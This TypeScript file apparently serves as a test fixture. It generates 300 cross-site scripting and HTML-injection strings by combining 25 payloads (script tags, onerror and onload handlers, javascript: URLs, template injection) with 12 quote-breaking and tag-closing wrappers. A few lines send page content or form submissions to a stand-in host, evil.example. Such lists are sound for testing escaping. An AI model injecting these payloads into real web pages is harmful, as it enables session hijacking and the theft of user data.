// Three hundred ways to smuggle a tag, an attribute or a script through a name.

const vectors = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg/onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<a href=javascript:alert(1)>x</a>",
  "<body onload=alert(1)>",
  "<details open ontoggle=alert(1)>",
  "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
  "<input autofocus onfocus=alert(1)>",
  "<video><source onerror=alert(1)></video>",
  "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
  "<base href=//evil.example>",
  "<form action=//evil.example><button>Pay</button></form>",
  "<style>*{display:none}</style>",
  "<link rel=stylesheet href=//evil.example>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "<!--><img src=x onerror=alert(1)>-->",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<template><script>alert(1)</script></template>",
  "onmouseover=alert(1) autofocus x=",
  "style=background:url(javascript:alert(1))",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#60;script&#62;alert(1)&#60;/script&#62;",
  "${alert(1)} {{constructor.constructor('alert(1)')()}}",
];

const wrappings: readonly ((vector: string) => string)[] = [
  (vector) => vector,
  (vector) => `">${vector}`,
  (vector) => `'>${vector}`,
  (vector) => `" ${vector} "`,
  (vector) => `' ${vector} '`,
  (vector) => `\`${vector}\``,
  (vector) => `</title>${vector}`,
  (vector) => `</bdi></p></main>${vector}`,
  (vector) => `</script>${vector}`,
  (vector) => `\0${vector.replace("<", "<\0")}`,
  (vector) => vector.toUpperCase().replace("<", "<\n\t"),
  (vector) => `\u202e&quot;>${vector}<!--`,
];

export const scriptInjections: readonly string[] = wrappings.flatMap((wrap) => vectors.map(wrap));
